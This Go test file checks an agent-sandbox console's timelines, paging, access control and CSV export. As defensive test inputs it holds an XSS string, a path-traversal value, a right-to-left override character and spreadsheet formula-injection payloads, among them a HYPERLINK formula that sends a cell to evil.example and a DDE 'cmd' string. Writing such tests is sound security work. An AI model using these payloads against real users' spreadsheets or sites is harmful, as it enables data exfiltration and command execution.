package console_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net"
	"net/url"
	"strings"
	"testing"
	"time"

	"postern/internal/audit"
	"postern/internal/auth"
	"postern/internal/command"
	"postern/internal/console"
	"postern/internal/sandbox"
	"postern/internal/store"
	"postern/internal/storetest"
)

// logs are records of commands by the sandbox, as package command reads them.
type logs map[string]command.Record

func (l logs) Read(_ context.Context, _ auth.Principal, id string) (command.Record, error) {
	r, ok := l[id]
	if !ok {
		return r, sandbox.ErrNotFound
	}
	return r, nil
}

// day has an agent with a sandbox do something of everything.
func (f *fixture) day() sandbox.Info {
	f.t.Helper()
	s, err := f.fleet.Create(f.t.Context(), f.project, sandbox.Request{Template: "base", Metadata: map[string]string{"name": "reconcile"}, Inbox: f.inbox.ID, Options: sandbox.Options{Timeout: time.Hour}})
	if err != nil {
		f.t.Fatal(err)
	}
	now := time.Now()
	f.commands[s.ID] = command.Record{
		Sandbox: s.ID,
		Commands: []command.Command{
			{Time: now, PID: 7, Path: "/usr/bin/python3", Args: []string{"python3", "reconcile.py"}, Verdict: command.Allowed, Exited: true, Ended: now.Add(41 * time.Second), Code: 0},
			{Time: now, PID: 8, Path: "/usr/bin/pytest", Args: []string{"pytest", "-q"}, Verdict: command.Allowed, Exited: true, Ended: now.Add(2 * time.Second), Code: 1},
			{Time: now, PID: 9, Path: "/usr/bin/curl", Args: []string{"curl", "<script>alert(1)</script>\u202e"}, Verdict: command.Denied, Why: "the contract does not allow it"},
		},
		Opens: []command.Opened{{Time: now, PID: 7, Path: "/home/user/open-invoices.csv"}},
	}
	who := s.Principal()
	f.update(func(tx *store.Tx) error {
		for v, fields := range map[audit.Verb]audit.Fields{
			audit.EgressDenied: {"name": "files.mirror.example", "dst": "203.0.113.9:443", "reason": "it is not on the list"}, audit.EgressRequest: {"method": "POST", "url": "https://ledger.example/v1", "status": "200", "bytes": "2400000"},
		} {
			if err := audit.Append(f.t.Context(), tx, who, v, s.ID, fields); err != nil {
				return err
			}
		}
		return audit.Append(f.t.Context(), tx, auth.Principal{Kind: auth.System, ID: "smtp", Project: f.project.Project}, audit.MessageReceive, "msg_1", audit.Fields{"inbox": f.inbox.ID, "size": "4800", "remote": "198.51.100.7"})
	})
	return s
}

// TestAgentsDay: one timeline has what an agent and its sandboxes did, and its address has
// all that was picked. It runs on both databases.
func TestAgentsDay(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		f := setupOn(t, l, db)
		f.enter()
		s := f.day()
		a := f.propose(draft())
		form := f.form(f.get("/console/actions/"+a.ID).body, "reject-form")
		form.Set("reason", "Wrong customer")
		f.submit("/console/actions/"+a.ID+"/decision", form)
		if err := audit.Settle(t.Context(), db); err != nil {
			t.Fatal(err)
		}
		contains(t, "agents", f.get("/console/agents").body, ">analyst<", "/console/agents/"+f.inbox.ID, "1 running", "gated_send")
		for name, path := range map[string]string{"agent": "/console/agents/" + f.inbox.ID, "sandbox": "/console/sandboxes/" + s.ID + "/day"} {
			page := f.get(path)
			if page.status != 200 {
				t.Fatalf("%s: %d\n%s", name, page.status, page.body)
			}
			contains(t, name, page.body, "python3 reconcile.py", "exit 0", "41 s", "exit 1", "Was refused to run", "open-invoices.csv", "files.mirror.example:443", "https://ledger.example/v1", "2.4 MB", "created", "started", `role="img"`, "refused or failed")
			if strings.Contains(page.body, "\u202e") {
				t.Errorf("%s: a command turns the text around", name)
			}
		}
		agent := "/console/agents/" + f.inbox.ID
		contains(t, "agent", f.get(agent).body, "Mail arrived for", "4.8 kB", "Wrong customer", "asked to send")
		for _, tt := range []struct{ query, has, not string }{
			{"k=commands", "python3", "Mail arrived"},
			{"k=mail&k=decisions", "Mail arrived", "python3"},
			{"only=1", "files.mirror.example", "Mail arrived"},
			{"q=LEDGER+post", "ledger.example", "python3 "},
			{"q=nosuchword", "Nothing of this day matches", "<details class=\"ev\""},
			{"day=2020-02-29", "Nothing happened on this day", "<details class=\"ev\""},
		} {
			body := f.get(agent + "?" + tt.query).body
			if !strings.Contains(body, tt.has) || strings.Contains(body, tt.not) {
				t.Errorf("%s: has %q: %v, has %q: %v", tt.query, tt.has, strings.Contains(body, tt.has), tt.not, strings.Contains(body, tt.not))
			}
		}
		for _, q := range []string{"day=x", "k=x", "page=0", "page=x", "q=" + strings.Repeat("x", 300), "q=%ff"} {
			if got := f.get(agent + "?" + q); got.status != 400 {
				t.Errorf("%s: %d, want 400", q, got.status)
			}
		}
		for _, path := range []string{"/console/", "/console/disk", "/console/audit?what=mail&when=today&actor=inbox:" + f.inbox.ID} {
			if got := f.get(path); got.status != 200 {
				t.Errorf("%s: %d", path, got.status)
			}
		}
		// The attacker: a person of another project has the links.
		f.stranger()
		for _, path := range []string{agent, "/console/sandboxes/" + s.ID + "/day", "/console/agents/inb_none", "/console/agents/..%2f", "/console/sandboxes/x/day"} {
			if got := f.get(path); got.status != 404 || strings.Contains(got.body, "analyst") || strings.Contains(got.body, "reconcile") {
				t.Errorf("a stranger gets %s: %d, want 404", path, got.status)
			}
		}
		contains(t, "a stranger's agents", f.get("/console/agents").body, "No agents yet")
		if got := f.get("/console/audit?object=" + s.ID); strings.Contains(got.body, "reconcile") {
			t.Error("a stranger reads the record of another project")
		}
	})
}

// TestDayOfThousands: a day with very many events is shown in pages, in bounded time.
func TestDayOfThousands(t *testing.T) {
	f := setup(t)
	f.enter()
	s := f.day()
	r := f.commands[s.ID]
	for i := range 5000 {
		r.Commands = append(r.Commands, command.Command{Time: time.Now(), PID: int32(i), Path: "/bin/true", Args: []string{fmt.Sprintf("true-%d", i), strings.Repeat("long ", 500)}, Verdict: command.Allowed})
	}
	f.commands[s.ID] = r
	for range 10 {
		f.update(func(tx *store.Tx) error {
			for i := range 500 {
				if err := audit.Append(t.Context(), tx, s.Principal(), audit.EgressConnected, s.ID, audit.Fields{"name": fmt.Sprintf("host-%d.example", i)}); err != nil {
					return err
				}
			}
			return nil
		})
	}
	begun := time.Now()
	page := f.get("/console/agents/" + f.inbox.ID)
	if d := time.Since(begun); d > 10*time.Second /* about 0.2 s of work; the machine may be busy */ {
		t.Errorf("it took %s", d)
	}
	if len(page.body) > 512<<10 {
		t.Errorf("the page has %d bytes", len(page.body))
	}
	contains(t, "day", page.body, "100 of 10,0", "Earlier that day", `href="/console/agents/`+f.inbox.ID+`?day=`)
	contains(t, "its last page", f.get("/console/agents/"+f.inbox.ID+"?page=101").body, "Later that day")
	contains(t, "past the end", f.get("/console/agents/"+f.inbox.ID+"?page=9999").body, "0 of 10,0")
}

// TestAgentsAreListedInPages: many agents, with long names.
func TestAgentsAreListedInPages(t *testing.T) {
	f := setup(t)
	f.enter()
	for i := range 60 {
		f.newInbox(fmt.Sprintf("agent-with-a-rather-long-name-%02d", i))
	}
	page := f.get("/console/agents").body
	contains(t, "agents", page, "agent-with-a-rather-long-name-00", "Next")
	contains(t, "second page", f.get("/console/agents?page=2").body, "agent-with-a-rather-long-name-59", "Previous")
	if body := f.get("/console/agents?" + url.Values{"q": {"analy"}}.Encode()).body; !strings.Contains(body, ">analyst<") || strings.Contains(body, "rather-long") {
		t.Error("the search does not find the agent alone")
	}
	contains(t, "search for nothing", f.get("/console/agents?q=%27%22%3C").body, "No agent is called so")
}

// TestSaveTheDay: the file has what the page has, for those who see the page, and no cell
// is a formula, whatever code in the sandbox was called.
func TestSaveTheDay(t *testing.T) {
	f := setup(t)
	f.enter()
	s := f.day()
	r := f.commands[s.ID]
	for _, args := range [][]string{{"=HYPERLINK(\"https://evil.example/\"&A1)"}, {"x", ";=1+1"}, {"a\nb,\"c\r\n=2"}, {"\u202e@SUM(1)"}} {
		r.Commands = append(r.Commands, command.Command{Time: time.Now(), Path: "/bin/x", Args: args, Verdict: command.Denied, Why: "+cmd|' /C calc'!A0"})
	}
	f.commands[s.ID] = r
	agent := "/console/agents/" + f.inbox.ID
	page := f.get(agent)
	contains(t, "page", page.body, "Save the day", agent+"/save?day=")
	contains(t, "page of a part", f.get(agent+"?k=commands").body, "Save these 7", "k=commands")
	for _, path := range []string{agent + "/save", "/console/sandboxes/" + s.ID + "/day/save"} {
		got := f.bytes(path)
		if got.status != 200 || got.header.Get("Content-Type") != "application/octet-stream" || !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("%s: %d, %v", path, got.status, got.header)
		}
		rows, err := csv.NewReader(strings.NewReader(got.body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) < 10 {
			t.Errorf("%s: %d rows", path, len(rows))
		}
		for _, row := range rows {
			for _, c := range row {
				if strings.ContainsAny(c, "\n\r\t\u202e") {
					t.Errorf("the cell %q has unseen characters", c)
				}
				for part := range strings.SplitSeq(c, ";") {
					if part = strings.TrimLeft(part, " \""); part != "" && strings.Contains("=+-@", part[:1]) {
						t.Errorf("the cell %q has a formula", c)
					}
				}
			}
		}
		contains(t, path, got.body, "python3 reconcile.py", "files.mirror.example:443", "exit 1", "+cmd|")
	}
	if got := f.bytes(agent + "/save?k=mail"); !strings.Contains(got.body, "Mail arrived") || strings.Contains(got.body, "python3") {
		t.Errorf("what is picked is not what is saved:\n%s", got.body)
	}
	f.stranger()
	for _, path := range []string{agent + "/save", "/console/sandboxes/" + s.ID + "/day/save"} {
		if got := f.bytes(path); got.status != 404 {
			t.Errorf("%s answers %d to a person of another project", path, got.status)
		}
	}
}

func TestCellsAreNoFormulas(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "pytest -q": "pytest -q", "=1": "'=1", " +1": " '+1", "-2": "'-2", "@x": "'@x", "＝1": "'＝1", "a;=1": "a;'=1", "a; @b": "a; '@b",
		"a=1": "a=1", "\t=1": " '=1", `"=1`: `"'=1`, "x\n=1": `x\u{a}=1`,
	} {
		if got := console.Cell(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

// TestDayHasWhatClientsOrdered: cells, input and files are on the timeline, each once, and a
// command that started is there as its program alone.
func TestDayHasWhatClientsOrdered(t *testing.T) {
	f := setup(t)
	f.enter()
	s := f.day()
	r := f.commands[s.ID]
	now := time.Now()
	r.Orders = []command.Order{
		{Time: now, Via: command.ViaSDK, Op: command.OpRun, Args: []string{"/bin/bash", "-l", "-c", "echo started-order"}, PID: 7, Size: -1},
		{Time: now, Via: command.ViaSDK, Op: command.OpRun, Args: []string{"/bin/bash", "-l", "-c", "echo no-process"}, Size: -1},
		{Time: now, Via: command.ViaMCP, Op: command.OpCode, Language: "<b>r", Size: 3, SHA256: strings.Repeat("ab", 32)},
		{Time: now, Op: command.OpInput, Tag: "pid 7", Size: 12},
		{Time: now, Via: command.ViaSDK, Op: command.OpSignal, Args: []string{"SIGKILL"}, PID: 7, Size: -1},
		{Time: now, Via: command.ViaConsole, Op: command.OpRead, Path: "/etc/read-path", Size: 5},
		{Time: now, Via: command.ViaSDK, Op: command.OpWrite, Path: "/a/one\n/a/two\u202e", Size: 9},
		{Time: now, Via: command.ViaSDK, Op: command.OpMove, Path: "/a/from", To: "/a/to", Size: -1},
		{Time: now, Via: command.ViaSDK, Op: command.OpMakeDir, Path: "/a/dir", Size: -1},
		{Time: now, Via: command.ViaSDK, Op: command.OpRemove, Path: "/a/gone", Size: -1},
	}
	f.commands[s.ID] = r
	page := f.get("/console/sandboxes/" + s.ID + "/day").body
	contains(t, "day", page, "echo no-process", "not started", "Ran a cell of", "&lt;b&gt;r", strings.Repeat("ab", 32), "an agent&#39;s tool", "Got input to", "pid 7", "12 bytes", "SIGKILL",
		"/etc/read-path", "/a/one, /a/two", "/a/from", "/a/to", "Made the directory", "/a/gone")
	for _, not := range []string{"started-order", "<b>r", "\u202e"} {
		if strings.Contains(page, not) {
			t.Errorf("the page has %q", not)
		}
	}
}
